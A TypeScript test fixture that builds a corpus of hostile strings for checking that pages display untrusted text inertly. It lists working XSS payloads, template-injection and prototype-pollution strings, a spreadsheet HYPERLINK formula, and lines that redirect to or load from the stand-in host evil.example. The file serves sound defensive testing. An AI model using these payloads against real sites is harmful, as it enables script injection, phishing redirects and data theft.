/** A function that the pages of the test have. Text that runs calls it. */
export const ALARM = "p42";

/**
 * Strings of strangers that would run, load or lead away if a page took them for more than text. Each ends with a word of its own, by which
 * the test recognises it on a screen.
 */
const FORMS: readonly string[] = [
  `<script>${ALARM}()</script>`,
  `<img src=x onerror=${ALARM}()>`,
  `"><svg onload=${ALARM}()>`,
  `javascript:${ALARM}()//`,
  `<a href="javascript:${ALARM}()">open</a>`,
  `</title></textarea></style><script>${ALARM}()</script>`,
  `<iframe srcdoc="<script>parent.${ALARM}()</script>"></iframe>`,
  `'-${ALARM}()-'`,
  `{{constructor.constructor('${ALARM}()')()}}`,
  `\${${ALARM}()}`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${ALARM}()>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<object data="data:text/html,<script>${ALARM}()</script>"></object>`,
  `<style>@import'//evil.example/x.css';*{display:none}</style>`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<details open ontoggle=${ALARM}()>`,
  `<form action="//evil.example/"><button autofocus onfocus=${ALARM}()>`,
  `data:text/html,<script>${ALARM}()</script>`,
  `=HYPERLINK("https://evil.example/","x")`,
  "__proto__",
  "constructor",
  "\u202e<img src=x>\u202c",
  `<!--><script>${ALARM}()</script-->`,
  `<svg><animate onbegin=${ALARM}() attributeName=x dur=1s>`,
  `<video><source onerror=${ALARM}()></video>`,
  `&lt;script&gt;${ALARM}()&lt;/script&gt;&#x3c;img src=x onerror=${ALARM}()&#x3e;`,
  `<input autofocus onfocus=${ALARM}()>`,
];

const SMALL = 8;

export type Hostile = { readonly text: string; readonly word: string };

/** All strings, or those that have found most faults elsewhere. */
export function corpus(isFull: boolean): readonly Hostile[] {
  return FORMS.slice(0, isFull ? FORMS.length : SMALL).map((form, at) => {
    const word = `zq${String(at).padStart(2, "0")}x`;
    return { text: `${form} ${word}`, word };
  });
}
